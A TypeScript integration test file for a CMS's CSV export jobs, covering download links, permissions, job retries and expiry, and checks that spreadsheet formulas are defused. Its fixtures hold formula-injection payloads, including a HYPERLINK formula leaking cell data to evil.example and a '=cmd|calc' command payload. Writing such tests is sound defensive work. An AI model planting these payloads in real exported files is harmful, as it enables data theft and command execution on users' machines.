import { and, count, eq, inArray, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GetExportDocument, LogoutCmsUserDocument } from '../../src/gql/graphql.js';
import { content, contentTaxonomy, exports, inquiryLeads, taxonomyTerms } from '../../src/server/db/schema/index.js';
import { findLiveSessionByBearer } from '../../src/server/modules/cmsAuth/repo.js';
import { hashToken } from '../../src/server/modules/cmsAuth/tokens.js';
import { downloadSecret, signDownload } from '../../src/server/modules/exports/download.js';
import { exportFileKey, resumeExports, runExport, sweepExpiredExports } from '../../src/server/modules/exports/run.js';
import { EXPORT_SOURCES } from '../../src/server/modules/exports/sources/index.js';
import { adminToken, createUser } from '../helpers/auth.js';
import { tenantIdOf } from '../helpers/db.js';
import { execute } from '../helpers/execute.js';
import { download, parseCsv, settledExport, startExport } from '../helpers/exports.js';
import { startTestServer, type TestServer } from '../helpers/testServer.js';

// CSV exports end to end (docs/exports.md): the job writes the file through the storage adapter,
// the signed link downloads it only for users who may, the file is RFC 4180 CSV in UTF-8 with a
// BOM that a real parser reads back row for row, formulas are defused, and the job's claim makes
// a second delivery or a crashed worker's export safe. Files expire.

let server: TestServer;
let admin = '';
let edr = 0;
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

beforeAll(async () => {
  server = await startTestServer();
  admin = await adminToken(server);
  edr = await tenantIdOf(server, 'edr');
});
afterAll(() => server.close());

async function insertCompany(values: Partial<typeof content.$inferInsert> & { name: string }) {
  const slug = `export-${Math.random().toString(36).slice(2, 10)}`;
  const [row] = await server.database.db
    .insert(content)
    .values({ tenantId: edr, type: 'Company', status: 1, alias: slug, canonicalPath: `/${slug}`, published: new Date('2026-01-02T03:04:05Z'), ...values })
    .returning();
  return row!;
}

const companyCount = async (tenantId: number) =>
  (await server.database.db.select({ n: count() }).from(content).where(and(eq(content.tenantId, tenantId), eq(content.type, 'Company'), inArray(content.status, [1, 2]))))[0]!.n;

describe('the company export', () => {
  let file: { status: number; headers: Headers; bytes: Buffer };
  let records: string[][];
  let injected: Awaited<ReturnType<typeof insertCompany>>;
  let exportId = 0;

  beforeAll(async () => {
    injected = await insertCompany({
      name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      city: '@SUM(1+1)',
      address1: 'Quai 1, "Hafen"\nBau 2',
      address2: 'Floor 3\nRoom 7',
      country: 'CHE',
      state: 'Zürich 東京',
      details: { phone: '+41 44 000 00 00', email: '-info@example.com', website: 'https://example.com' },
    });
    const started = await startExport(server, { kind: 'companies' }, { token: admin });
    expect(started).toMatchObject({ kind: 'companies', status: 'queued', rowsDone: 0, downloadUrl: null, filters: { statuses: [1, 2] } });
    exportId = started.id;
    const done = await settledExport(server, exportId, admin);
    expect(done.status).toBe('done');
    expect(done.downloadUrl).toMatch(/^\/api\/exports\/\d+\/download\?token=[\w-]+\.[\w-]+$/);
    file = await download(server, done.downloadUrl!);
    records = parseCsv(file.bytes);
  });

  it('is an attachment in UTF-8 with a BOM, never cached or rendered', () => {
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename="companies-edr-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(file.headers.get('cache-control')).toBe('private, no-store');
    expect(file.headers.get('x-content-type-options')).toBe('nosniff');
    expect(file.headers.get('content-length')).toBe(String(file.bytes.length));
    expect(file.bytes.subarray(0, 3).equals(BOM)).toBe(true);
    // RFC 4180: CRLF between records.
    expect(file.bytes.toString('utf8')).toContain('\r\n');
  });

  it('has the header and one row per company of the site (published and draft)', async () => {
    expect(records[0]).toEqual([...EXPORT_SOURCES.companies.header]);
    const rows = records.slice(1);
    expect(rows.length).toBe(await companyCount(edr));
    const ids = rows.map((r) => Number(r[0]));
    expect(new Set(ids).size).toBe(ids.length);
    expect([...ids].sort((a, b) => a - b)).toEqual(ids);
    const done = (await execute(server, GetExportDocument, { id: exportId }, { cmsToken: admin })).getExport;
    expect(done).toMatchObject({ rowsDone: rows.length, rowsTotal: rows.length, byteSize: file.bytes.length });
  });

  it('carries address, contacts and taxonomy', async () => {
    const [withContacts] = await server.database.db
      .select({ id: content.id, details: content.details, city: content.city })
      .from(content)
      .where(and(eq(content.tenantId, edr), eq(content.type, 'Company'), sql`jsonb_array_length(coalesce(${content.details}->'contactIds', '[]'::jsonb)) > 0`))
      .limit(1);
    expect(withContacts, 'the demo has a company with contacts').toBeDefined();
    const row = records.find((r) => Number(r[0]) === withContacts!.id)!;
    const col = (name: string) => row[records[0]!.indexOf(name)];
    expect(col('City')).toBe(withContacts!.city ?? '');
    expect(col('Contact IDs')).toBe((withContacts!.details.contactIds as number[]).join('; '));
    expect(col('Contacts')).not.toBe('');
    const terms = await server.database.db
      .select({ id: contentTaxonomy.termId })
      .from(contentTaxonomy)
      .where(eq(contentTaxonomy.contentId, withContacts!.id));
    expect((col('Taxonomy IDs') ?? '').split('; ').filter(Boolean).map(Number).sort()).toEqual(terms.map((t) => t.id).sort());
  });

  it('defuses formulas and keeps commas, quotes, line breaks and non-Latin text', () => {
    const row = records.find((r) => Number(r[0]) === injected.id)!;
    const col = (name: string) => row[records[0]!.indexOf(name)];
    expect(col('Name')).toBe(`'${injected.name}`);
    expect(col('City')).toBe("'@SUM(1+1)");
    expect(col('Phone')).toBe("'+41 44 000 00 00");
    expect(col('E-mail')).toBe("'-info@example.com");
    expect(col('Address 1')).toBe('Quai 1, "Hafen"\nBau 2');
    expect(col('Address 2')).toBe('Floor 3\nRoom 7');
    expect(col('State / province')).toBe('Zürich 東京');
    expect(col('Published (UTC)')).toBe('2026-01-02 03:04:05');
    expect(col('Path')).toBe(injected.canonicalPath);
  });
});

describe('the taxonomy export', () => {
  it('has every term with its hierarchy and usage', async () => {
    const started = await startExport(server, { kind: 'taxonomy' }, { token: admin });
    const done = await settledExport(server, started.id, admin);
    const records = parseCsv((await download(server, done.downloadUrl!)).bytes);
    const rows = records.slice(1);
    const [{ n }] = (await server.database.db.select({ n: count() }).from(taxonomyTerms).where(eq(taxonomyTerms.tenantId, edr))) as [{ n: number }];
    expect(rows.length).toBe(n);
    const [child] = await server.database.db
      .select({ id: taxonomyTerms.id, parentId: taxonomyTerms.parentId })
      .from(taxonomyTerms)
      .where(and(eq(taxonomyTerms.tenantId, edr), sql`${taxonomyTerms.parentId} is not null`))
      .limit(1);
    const header = records[0]!;
    const childRow = rows.find((r) => Number(r[0]) === child!.id)!;
    expect(Number(childRow[header.indexOf('Parent ID')])).toBe(child!.parentId);
    const parentRow = rows.find((r) => Number(r[0]) === child!.parentId)!;
    expect(childRow[header.indexOf('Parent')]).toBe(parentRow[header.indexOf('Full name')]);
    expect(Number(parentRow[header.indexOf('Child terms')])).toBeGreaterThan(0);
    const [used] = await server.database.db
      .select({ id: contentTaxonomy.termId, n: count() })
      .from(contentTaxonomy)
      .innerJoin(taxonomyTerms, eq(taxonomyTerms.id, contentTaxonomy.termId))
      .where(eq(taxonomyTerms.tenantId, edr))
      .groupBy(contentTaxonomy.termId)
      .limit(1);
    expect(Number(rows.find((r) => Number(r[0]) === used!.id)![header.indexOf('Items tagged')])).toBe(used!.n);
  });

  it('takes the types asked for', async () => {
    const started = await startExport(server, { kind: 'taxonomy', filters: { taxonomyTypes: ['Tag'] } }, { token: admin });
    const done = await settledExport(server, started.id, admin);
    const rows = parseCsv((await download(server, done.downloadUrl!)).bytes).slice(1);
    expect(rows.length).toBeGreaterThan(0);
    expect(new Set(rows.map((r) => r[1]))).toEqual(new Set(['Tag']));
  });
});

describe('the RMI report export', () => {
  it('exports the leads of the form and date range the report shows', async () => {
    const at = (day: string) => new Date(`${day}T12:00:00Z`);
    const mark = `rmi-${Date.now()}`;
    await server.database.db.insert(inquiryLeads).values([
      { tenantId: edr, kind: 'inquiry', name: `${mark} before`, email: 'a@example.com', message: 'x', createdAt: at('2031-01-01') },
      { tenantId: edr, kind: 'inquiry', name: `${mark} in`, email: 'b@example.com', company: 'Acme', message: '=cmd|calc', consent: { given: true, text: 'ok', at: '' }, createdAt: at('2031-01-05') },
      { tenantId: edr, kind: 'contact', name: `${mark} contact`, email: 'c@example.com', message: 'x', createdAt: at('2031-01-05') },
      { tenantId: edr, kind: 'inquiry', name: `${mark} after`, email: 'd@example.com', message: 'x', createdAt: at('2031-01-10') },
    ]);
    const filters = { leadKind: 'inquiry' as const, dateFrom: '2031-01-02T00:00:00.000Z', dateTo: '2031-01-10T00:00:00.000Z' };
    const started = await startExport(server, { kind: 'inquiryLeads', filters }, { token: admin });
    expect(started.filters).toMatchObject(filters);
    const done = await settledExport(server, started.id, admin);
    const records = parseCsv((await download(server, done.downloadUrl!)).bytes);
    expect(records[0]).toEqual([...EXPORT_SOURCES.inquiryLeads.header]);
    expect(records.slice(1).map((r) => r[6])).toEqual([`${mark} in`]);
    const row = records[1]!;
    expect(row.slice(1, 3)).toEqual(['2031-01-05 12:00:00', 'Inquiry']);
    expect(row[records[0]!.indexOf('Message')]).toBe("'=cmd|calc");
    expect(row[records[0]!.indexOf('May be contacted')]).toBe('Yes');
  });
});

describe('downloading', () => {
  let exportId = 0;
  let url = '';
  beforeAll(async () => {
    const started = await startExport(server, { kind: 'companies', filters: { statuses: [1] } }, { token: admin });
    exportId = started.id;
    url = (await settledExport(server, exportId, admin)).downloadUrl!;
  });

  const tokenFor = async (sessionId: number, { id = exportId, expires = Math.floor(Date.now() / 1000) + 60 } = {}) =>
    `/api/exports/${id}/download?token=${signDownload(await downloadSecret(server.database.db), { exportId: id, sessionId, expires })}`;
  const sessionOf = async (token: string) => (await findLiveSessionByBearer(server.database.db, hashToken(token), new Date()))!.session.id;

  it('refuses a missing, altered or borrowed link', async () => {
    expect((await download(server, `/api/exports/${exportId}/download`)).status).toBe(403);
    expect((await download(server, `${url}x`)).status).toBe(403);
    // A link names its export: another id with the same token is refused.
    const other = url.replace(`/api/exports/${exportId}/`, `/api/exports/${exportId + 1}/`);
    const refused = await download(server, other);
    expect(refused.status).toBe(403);
    expect(JSON.parse(refused.bytes.toString('utf8'))).toMatchObject({ code: 'FORBIDDEN', message: expect.stringContaining('not valid') });
  });

  it('refuses an expired link', async () => {
    const user = await createUser(server, { role: 'managing_editor' });
    const response = await download(server, await tokenFor(await sessionOf(user.token), { expires: Math.floor(Date.now() / 1000) - 1 }));
    expect(response.status).toBe(410);
  });

  it('ends with the session: a logout makes the link useless', async () => {
    const user = await createUser(server, { role: 'managing_editor' });
    const link = (await execute(server, GetExportDocument, { id: exportId }, { cmsToken: user.token })).getExport!.downloadUrl!;
    expect((await download(server, link)).status).toBe(200);
    await execute(server, LogoutCmsUserDocument, {}, { cmsToken: user.token });
    expect((await download(server, link)).status).toBe(401);
  });

  it('is for users of the export’s site with the kind’s permission, checked again at download', async () => {
    // A managing editor of fot: edr's export is not theirs to see, nor to download.
    const fot = await createUser(server, { role: 'managing_editor', tenantKeys: ['fot'] });
    expect((await execute(server, GetExportDocument, { id: exportId }, { cmsToken: fot.token, tenantKey: 'fot' })).getExport).toBeNull();
    expect((await download(server, await tokenFor(await sessionOf(fot.token)))).status).toBe(403);
    // An editor of edr may see reports (view_common_reports) but not export companies.
    const editor = await createUser(server, { role: 'editor' });
    const refused = await download(server, await tokenFor(await sessionOf(editor.token)));
    expect(refused.status).toBe(403);
    expect(JSON.parse(refused.bytes.toString('utf8')).message).toContain('manage_print_export');
  });

  it('says so when the export has not finished', async () => {
    const [row] = await server.database.db.insert(exports).values({ tenantId: edr, kind: 'companies', fileName: 'x.csv', status: 'running' }).returning();
    const user = await createUser(server, { role: 'managing_editor' });
    expect((await download(server, await tokenFor(await sessionOf(user.token), { id: row!.id }))).status).toBe(409);
  });
});

describe('the job', () => {
  const queuedRow = async () =>
    (await server.database.db.insert(exports).values({ tenantId: edr, kind: 'companies', filters: { statuses: [1, 2] }, fileName: 'companies.csv', status: 'queued' }).returning())[0]!;
  const rowOf = async (id: number) => (await server.database.db.select().from(exports).where(eq(exports.id, id)))[0]!;

  it('runs once: a second delivery finds it done and does nothing', async () => {
    const row = await queuedRow();
    expect(await runExport(server.services, row.id, 'first')).toBe('done');
    const done = await rowOf(row.id);
    expect(done).toMatchObject({ status: 'done', attempts: 1, fileKey: exportFileKey(row, 1), rowsDone: await companyCount(edr) });
    expect(await runExport(server.services, row.id, 'second')).toBe('skipped');
    expect(await rowOf(row.id)).toMatchObject({ status: 'done', attempts: 1, worker: 'first', finishedAt: done.finishedAt });
  });

  it('leaves a live worker alone and takes over a silent one, dropping its unfinished file', async () => {
    const row = await queuedRow();
    await server.database.db.update(exports).set({ status: 'running', worker: 'alive', heartbeatAt: new Date(), attempts: 1 }).where(eq(exports.id, row.id));
    expect(await runExport(server.services, row.id, 'taker')).toBe('skipped');
    expect((await rowOf(row.id)).worker).toBe('alive');

    // The worker died mid-file: its partial file stays behind until the taker removes it.
    const partial = exportFileKey(row, 1);
    await server.services.storage.put(partial, new TextEncoder().encode('ID,Name\r\n1,half'), { contentType: 'text/csv' });
    await server.database.db.update(exports).set({ heartbeatAt: new Date(Date.now() - 120_000) }).where(eq(exports.id, row.id));
    expect(await runExport(server.services, row.id, 'taker')).toBe('done');
    expect(await rowOf(row.id)).toMatchObject({ status: 'done', worker: 'taker', attempts: 2, fileKey: exportFileKey(row, 2) });
    expect(await server.services.storage.exists(partial)).toBe(false);
    expect(await server.services.storage.exists(exportFileKey(row, 2))).toBe(true);
  });

  it('gives up after four claims', async () => {
    const row = await queuedRow();
    await server.database.db.update(exports).set({ attempts: 4 }).where(eq(exports.id, row.id));
    expect(await runExport(server.services, row.id, 'late')).toBe('failed');
    expect(await rowOf(row.id)).toMatchObject({ status: 'failed', message: expect.stringContaining('given up') });
  });

  it('is queued again at start-up when left queued or running', async () => {
    const row = await queuedRow();
    expect(await resumeExports(server.services)).toBeGreaterThanOrEqual(1);
    // The queue's worker runs it.
    expect((await settledExport(server, row.id, admin)).status).toBe('done');
  });

  it('deletes files past their days; the export then shows as expired', async () => {
    const started = await startExport(server, { kind: 'taxonomy', filters: { taxonomyTypes: ['Bin'] } }, { token: admin });
    const done = await settledExport(server, started.id, admin);
    const key = (await rowOf(started.id)).fileKey!;
    expect(await server.services.storage.exists(key)).toBe(true);
    await server.database.db.update(exports).set({ expiresAt: new Date(Date.now() - 1000) }).where(eq(exports.id, started.id));
    // Past its day, the link no longer works even before the sweep.
    expect((await download(server, done.downloadUrl!)).status).toBe(410);
    expect(await sweepExpiredExports(server.services)).toBeGreaterThanOrEqual(1);
    expect(await server.services.storage.exists(key)).toBe(false);
    const expired = (await execute(server, GetExportDocument, { id: started.id }, { cmsToken: admin })).getExport!;
    expect(expired).toMatchObject({ status: 'expired', downloadUrl: null, message: expect.stringContaining('removed') });
    expect((await download(server, done.downloadUrl!)).status).toBe(410);
  });
});
